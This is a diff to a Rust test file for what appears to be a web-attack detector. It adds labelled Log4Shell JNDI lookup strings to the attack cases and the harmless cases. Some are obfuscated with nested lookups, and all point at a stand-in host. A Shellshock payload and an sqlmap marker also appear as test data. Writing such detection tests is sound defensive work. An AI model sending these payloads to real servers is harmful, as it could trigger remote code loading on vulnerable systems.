@@ -114,8 +114,23 @@ const ATTACKS: &[(&str, u64, Request)] = &[
         2,
         path("GET /%24%7Bjndi%3Aldap%3A//192.0.2.66/a%7D HTTP/1.1"),
     ),
-    ("apache-log4shell", 3, agent("${jndi:ldap://192.0.2.66/a}")),
+    ("apache-log4shell", 4, agent("${jndi:ldap://192.0.2.66/a}")),
+    (
+        "apache-log4shell",
+        4,
+        agent("t('${${env:NaN:-j}ndi:ldap://192.0.2.66/a}')"),
+    ),
     ("apache-log4shell", 3, referer("${jndi:dns://192.0.2.66/a}")),
+    (
+        "apache-log4shell",
+        3,
+        referer("https://${jndi:dns://192.0.2.66/a}"),
+    ),
+    (
+        "apache-log4shell",
+        1,
+        path("GET /?x=${${lower:j}ndi:${lower:l}${lower:d}ldap://192.0.2.66/a} HTTP/1.1"),
+    ),
     (
         "apache-log4shell",
         4,
@@ -177,6 +192,9 @@ const HARMLESS: &[Request] = &[
     agent("Mozilla/5.0 (Linux; U; Android 4; Touch; () function) nagios"),
     referer("https://www.example.org/?q=() { :;}; /bin/id"),
     referer("https://www.example.org/?q=sqlmap/1.7"),
+    referer("https://www.example.org/?q=${jndi:ldap://192.0.2.66/a}"),
+    referer("https://www.example.org/?q=${${lower:j}ndi:ldap://192.0.2.66/a}"),
+    referer(r#"https://www.example.org/?\" \"${jndi:ldap://192.0.2.66/a}"#),
 ];
 
 fn lines(request: &Request) -> Vec<String> {
